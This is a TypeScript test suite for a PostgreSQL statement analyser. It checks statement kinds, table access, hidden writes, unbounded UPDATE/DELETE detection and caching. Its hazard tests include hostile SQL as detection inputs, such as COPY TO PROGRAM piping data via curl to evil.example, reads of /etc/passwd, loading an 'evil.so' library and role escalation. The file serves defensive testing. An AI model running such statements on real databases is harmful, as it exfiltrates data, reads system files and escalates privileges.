import assert from 'node:assert/strict';
import { before, describe, it } from 'node:test';
import { analyse, loadParser, SqlSyntaxError, type StatementAnalysis } from '../../src/sql/analysis.ts';
import { AnalysisCache } from '../../src/sql/cache.ts';

before(() => loadParser());

const one = (sql: string): StatementAnalysis => {
  const { statements } = analyse(sql);
  assert.equal(statements.length, 1, `one statement in ${sql}`);
  return statements[0]!;
};
const tables = (sql: string) =>
  one(sql).tables.map((t) => `${t.access}:${t.schema ? `${t.schema}.` : ''}${t.name}`);

describe('statement kinds', () => {
  const cases: [string, StatementAnalysis['kind']][] = [
    ['SELECT 1', 'read'],
    ['select * from t for update', 'read'],
    ['INSERT INTO t VALUES (1)', 'write'],
    ['update t set a = 1 where id = 2', 'write'],
    ['DELETE FROM t WHERE id = 1', 'write'],
    ['MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE', 'write'],
    ['TRUNCATE t', 'write'],
    ['CREATE TABLE t (id int)', 'ddl'],
    ['ALTER TABLE t ADD COLUMN b int', 'ddl'],
    ['DROP TABLE t', 'ddl'],
    ['CREATE INDEX ON t (a)', 'ddl'],
    ['GRANT SELECT ON t TO bob', 'dcl'],
    ['REVOKE ALL ON t FROM bob', 'dcl'],
    ['CREATE ROLE admin SUPERUSER', 'dcl'],
    ['ALTER ROLE bob WITH SUPERUSER', 'dcl'],
    ['BEGIN', 'transaction'],
    ['COMMIT', 'transaction'],
    ['ROLLBACK TO SAVEPOINT s', 'transaction'],
    ['SET search_path = x', 'utility'],
    ['SHOW work_mem', 'utility'],
    ['LISTEN ch', 'utility'],
    ['VACUUM t', 'utility'],
    ['COPY t TO STDOUT', 'copy'],
    ['CALL do_things(1)', 'call'],
    ['DO $$ BEGIN NULL; END $$', 'call'],
  ];
  for (const [sql, kind] of cases) {
    it(`${sql} is ${kind}`, () => assert.equal(one(sql).kind, kind));
  }
});

describe('tables read and written', () => {
  it('names schema-qualified and unqualified tables with their access', () => {
    assert.deepEqual(
      tables(
        'INSERT INTO sales.orders SELECT * FROM staging.orders o JOIN customers c ON c.id = o.customer_id',
      ),
      ['write:sales.orders', 'read:staging.orders', 'read:customers'],
    );
    assert.deepEqual(tables('UPDATE t SET a = s.a FROM s WHERE t.id = s.id'), ['write:t', 'read:s']);
    assert.deepEqual(tables('DELETE FROM t USING u WHERE t.id = u.id'), ['write:t', 'read:u']);
  });

  it('keeps quoted identifiers exactly and folds unquoted ones to lower case, as PostgreSQL does', () => {
    assert.deepEqual(tables('SELECT * FROM "Sales"."Big Table", Other'), [
      'read:Sales.Big Table',
      'read:other',
    ]);
  });

  it('does not count CTE names as tables, but counts what the CTE reads', () => {
    assert.deepEqual(tables('WITH recent AS (SELECT * FROM orders) SELECT * FROM recent'), ['read:orders']);
  });

  it('finds tables in subqueries, UNION arms and lateral joins', () => {
    assert.deepEqual(
      tables(
        'SELECT * FROM a WHERE id IN (SELECT id FROM b) UNION SELECT * FROM c, LATERAL (SELECT * FROM d) x',
      ),
      ['read:a', 'read:b', 'read:c', 'read:d'],
    );
  });

  it('marks COPY FROM as a write and COPY TO as a read of its table', () => {
    assert.deepEqual(tables('COPY t FROM STDIN'), ['write:t']);
    assert.deepEqual(tables('COPY t TO STDOUT'), ['read:t']);
    assert.deepEqual(tables('COPY (SELECT email FROM customers) TO STDOUT'), ['read:customers']);
  });

  it('marks dropped, truncated and altered relations as written', () => {
    assert.deepEqual(tables('DROP TABLE a.b, c'), ['write:a.b', 'write:c']);
    assert.deepEqual(tables('TRUNCATE x, y'), ['write:x', 'write:y']);
    assert.deepEqual(tables('ALTER TABLE s.t DROP COLUMN c'), ['write:s.t']);
  });
});

describe('writes and effects that hide', () => {
  it('a data-modifying CTE makes a SELECT a write', () => {
    const statement = one('WITH d AS (DELETE FROM accounts RETURNING *) SELECT count(*) FROM d');
    assert.equal(statement.kind, 'write');
    assert.ok(statement.hazards.includes('cte-write'));
    assert.deepEqual(statement.tables, [{ schema: undefined, name: 'accounts', access: 'write' }]);
  });

  it('SELECT INTO and CREATE TABLE AS create tables from what they read', () => {
    const into = one('SELECT * INTO copy_of FROM customers');
    assert.equal(into.kind, 'ddl');
    assert.ok(into.hazards.includes('select-into'));
    assert.deepEqual(tables('SELECT * INTO copy_of FROM customers'), ['write:copy_of', 'read:customers']);
    assert.ok(one('CREATE TABLE copy_of AS SELECT * FROM customers').hazards.includes('create-table-as'));
    assert.deepEqual(tables('CREATE TABLE copy_of AS SELECT * FROM customers'), [
      'read:customers',
      'write:copy_of',
    ]);
  });

  it('COPY to or from a program or a server file is flagged; STDIN/STDOUT is not', () => {
    assert.deepEqual(one("COPY t TO PROGRAM 'curl -d @- evil.example'").hazards, ['copy-program']);
    assert.deepEqual(one("COPY t FROM '/etc/passwd'").hazards, ['copy-server-file']);
    assert.deepEqual(one('COPY t FROM STDIN').hazards, []);
  });

  it('EXPLAIN ANALYZE of a write runs the write; plain EXPLAIN does not', () => {
    const analysed = one('EXPLAIN (ANALYZE) DELETE FROM t');
    assert.equal(analysed.kind, 'write');
    assert.ok(analysed.hazards.includes('explain-analyze-write'));
    assert.equal(one('EXPLAIN DELETE FROM t').kind, 'utility');
    assert.equal(one('EXPLAIN ANALYZE SELECT 1').hazards.includes('explain-analyze-write'), false);
  });

  it('flags SET ROLE and SET SESSION AUTHORIZATION in any spelling', () => {
    for (const sql of ['SET ROLE admin', 'set local role admin', 'SeT rOlE "Admin"'])
      assert.deepEqual(one(sql).hazards, ['set-role'], sql);
    assert.deepEqual(one('SET SESSION AUTHORIZATION postgres').hazards, ['set-session-authorization']);
    assert.equal(one('SET search_path = public').setting, 'search_path');
  });

  it('flags ALTER SYSTEM, LOAD and DO blocks', () => {
    assert.deepEqual(one("ALTER SYSTEM SET shared_preload_libraries = 'evil'").hazards, ['alter-system']);
    assert.deepEqual(one("LOAD 'evil.so'").hazards, ['load-library']);
    assert.deepEqual(one('DO $$ BEGIN EXECUTE $q$DROP TABLE t$q$; END $$').hazards, ['do-block']);
  });

  it('flags dangerous functions however they are written', () => {
    for (const sql of [
      "SELECT pg_read_file('/etc/passwd')",
      "select PG_CATALOG.PG_READ_FILE('/etc/passwd')",
      'SELECT pg_terminate_backend(pid) FROM pg_stat_activity',
      "SELECT set_config('role', 'admin', false)",
      "SELECT query_to_xml('delete from t returning *', true, true, '')",
      "SELECT * FROM dblink('host=elsewhere', 'select 1') AS t(a int)",
      "SELECT lo_export(1234, '/tmp/x')",
    ]) {
      assert.ok(one(sql).hazards.includes('dangerous-function'), sql);
    }
  });

  it('calls functions it does not know opaque, and plain builtins transparent', () => {
    assert.deepEqual(one('SELECT app.do_refund(42)').hazards, ['opaque-function']);
    assert.deepEqual(one('SELECT app.do_refund(42)').functions, ['app.do_refund']);
    assert.deepEqual(
      one("SELECT upper(name), count(*), coalesce(a, 'x'), now() FROM t GROUP BY 1").hazards,
      [],
    );
  });

  it('does not mistake SQL inside a string or a comment for a statement', () => {
    const statement = one(
      "SELECT 'DELETE FROM t' AS text, $x$ DROP TABLE t; $x$ /* TRUNCATE t */ -- GRANT ALL",
    );
    assert.equal(statement.kind, 'read');
    assert.deepEqual(statement.tables, []);
  });
});

describe('WHERE and LIMIT', () => {
  it('treats a missing or constant-true WHERE of UPDATE/DELETE as none', () => {
    for (const sql of [
      'DELETE FROM t',
      'DELETE FROM t WHERE true',
      'DELETE FROM t WHERE 1 = 1',
      "UPDATE t SET a = 1 WHERE 'x' = 'x'",
      'UPDATE t SET a = 1 WHERE id = id',
      'DELETE FROM t WHERE 1 <> 2',
      'DELETE FROM t WHERE false OR true',
      'DELETE FROM t WHERE true::boolean',
    ]) {
      assert.equal(one(sql).hasWhere, false, sql);
    }
    for (const sql of [
      'DELETE FROM t WHERE id = 1',
      'UPDATE t SET a = 1 WHERE a IS NULL',
      'DELETE FROM t WHERE 1 = 1 AND id = 2',
    ]) {
      assert.equal(one(sql).hasWhere, true, sql);
    }
  });

  it('finds an unbounded UPDATE or DELETE wherever it hides, but not in a plain EXPLAIN', () => {
    for (const sql of [
      'DELETE FROM t',
      'WITH gone AS (DELETE FROM t RETURNING id) SELECT count(*) FROM gone',
      'PREPARE wipe AS UPDATE t SET a = 1',
      'EXPLAIN ANALYZE DELETE FROM t WHERE true',
      'INSERT INTO log WITH x AS (UPDATE t SET a = 1 RETURNING *) SELECT * FROM x',
    ]) {
      assert.equal(one(sql).unboundedWrite, true, sql);
    }
    for (const sql of [
      'DELETE FROM t WHERE id = 1',
      'EXPLAIN DELETE FROM t',
      'SELECT 1',
      'INSERT INTO t VALUES (1)',
    ]) {
      assert.equal(one(sql).unboundedWrite, false, sql);
    }
  });

  it('reports LIMIT', () => {
    assert.equal(one('SELECT * FROM t LIMIT 10').hasLimit, true);
    assert.equal(one('SELECT * FROM t').hasLimit, false);
  });
});

describe('columns by clause', () => {
  it('lists the columns used in each clause', () => {
    const { columns } = one(
      'SELECT c.email, upper(name) FROM customers c JOIN orders o ON o.customer_id = c.id WHERE c.ssn LIKE $1 GROUP BY c.email, name HAVING count(o.id) > 1 ORDER BY c.city',
    );
    assert.deepEqual(columns.select, ['c.email', 'name']);
    assert.deepEqual(columns.join, ['o.customer_id', 'c.id']);
    assert.deepEqual(columns.where, ['c.ssn']);
    assert.deepEqual(columns.groupBy, ['c.email', 'name']);
    assert.deepEqual(columns.having, ['o.id']);
    assert.deepEqual(columns.orderBy, ['c.city']);
  });

  it('lists RETURNING columns of writes', () => {
    assert.deepEqual(one('UPDATE t SET a = 1 WHERE id = 2 RETURNING email, id').columns.returning, [
      'email',
      'id',
    ]);
  });
});

describe('batches, prepared statements, fingerprints and errors', () => {
  it('analyses every statement of a multi-statement Query, each with its own text', () => {
    const { statements } = analyse('SELECT 1; DELETE FROM t;  UPDATE u SET a = 2 WHERE id = 3');
    assert.deepEqual(
      statements.map((s) => [s.kind, s.text]),
      [
        ['read', 'SELECT 1'],
        ['write', 'DELETE FROM t'],
        ['write', 'UPDATE u SET a = 2 WHERE id = 3'],
      ],
    );
  });

  it('judges PREPARE as what it prepares and names what EXECUTE runs', () => {
    const prepared = one('PREPARE wipe (int) AS DELETE FROM t WHERE id > $1');
    assert.equal(prepared.kind, 'write');
    assert.equal(prepared.prepares?.name, 'wipe');
    assert.deepEqual(prepared.prepares?.statement.tables, [
      { schema: undefined, name: 't', access: 'write' },
    ]);
    assert.equal(one('EXECUTE wipe(3)').executes, 'wipe');
  });

  it('gives statements that differ only in constants the same fingerprint', () => {
    assert.equal(
      analyse('SELECT * FROM t WHERE id = 1').fingerprint,
      analyse('select * from t where id = 99').fingerprint,
    );
    assert.notEqual(
      analyse('SELECT * FROM t WHERE id = 1').fingerprint,
      analyse('SELECT * FROM u WHERE id = 1').fingerprint,
    );
  });

  it('answers empty and comment-only SQL with no statements', () => {
    assert.deepEqual(analyse('').statements, []);
    assert.deepEqual(analyse('   ').statements, []);
    assert.deepEqual(analyse('-- nothing here').statements, []);
  });

  it('refuses SQL the parser refuses, with its message and a 1-based character position', () => {
    assert.throws(
      () => analyse('SELECT 1 FROM WHERE'),
      (error: unknown) => {
        assert.ok(error instanceof SqlSyntaxError);
        assert.equal(error.sqlstate, '42601');
        assert.equal(error.message, 'syntax error at or near "WHERE"');
        assert.equal(error.position, 15);
        return true;
      },
    );
    // Positions count characters, not UTF-8 bytes.
    assert.throws(
      () => analyse("SELECT 'ünïcödé' FROM WHERE"),
      (error: unknown) => (error as SqlSyntaxError).position === 23,
    );
  });
});

describe('the analysis cache', () => {
  it('parses a shape once: texts that differ only in constants share one analysis', () => {
    const cache = new AnalysisCache(100);
    const first = cache.get('SELECT abalance FROM pgbench_accounts WHERE aid = 17');
    assert.equal(cache.get('SELECT abalance FROM pgbench_accounts WHERE aid = 90210'), first);
    assert.notEqual(cache.get('SELECT abalance FROM pgbench_accounts WHERE bid = 17'), first);
    assert.deepEqual([cache.hits, cache.misses], [1, 2]);
  });

  it('keeps SET by its exact text, since Warden reads the value', () => {
    const cache = new AnalysisCache(100);
    const a = cache.get("SET search_path = 'a'");
    const b = cache.get("SET search_path = 'b'");
    assert.deepEqual(a.statements[0]!.settingValue, ['a']);
    assert.deepEqual(b.statements[0]!.settingValue, ['b']);
    assert.equal(cache.get("SET search_path = 'b'"), b);
  });

  it('keeps each batch of several statements by its exact text, so every statement has its own text', () => {
    const cache = new AnalysisCache(100);
    cache.get("SELECT 1; SELECT 'public'");
    const second = cache.get("SELECT 1; SELECT 'secret'");
    assert.equal(second.statements[1]!.text, "SELECT 'secret'");
  });

  it('does not let a constant decide whether a WHERE is real', () => {
    const cache = new AnalysisCache(100);
    assert.equal(cache.get('DELETE FROM t WHERE 1 = 2').statements[0]!.unboundedWrite, true);
    assert.equal(cache.get('DELETE FROM t WHERE 1 = 1').statements[0]!.unboundedWrite, true);
  });

  it('remembers syntax errors too', () => {
    const cache = new AnalysisCache(100);
    assert.throws(() => cache.get('SELEC 1'), SqlSyntaxError);
    assert.throws(() => cache.get('SELEC 1'), SqlSyntaxError);
    assert.deepEqual([cache.hits, cache.misses], [1, 1]);
  });

  it('evicts the least recently used entry when full', () => {
    const cache = new AnalysisCache(2);
    cache.get('SELECT a');
    cache.get('SELECT b');
    cache.get('SELECT a'); // now the most recent
    cache.get('SELECT c'); // evicts SELECT b
    assert.equal(cache.size, 2);
    cache.get('SELECT a');
    cache.get('SELECT b');
    assert.deepEqual([cache.hits, cache.misses], [2, 4]);
  });
});
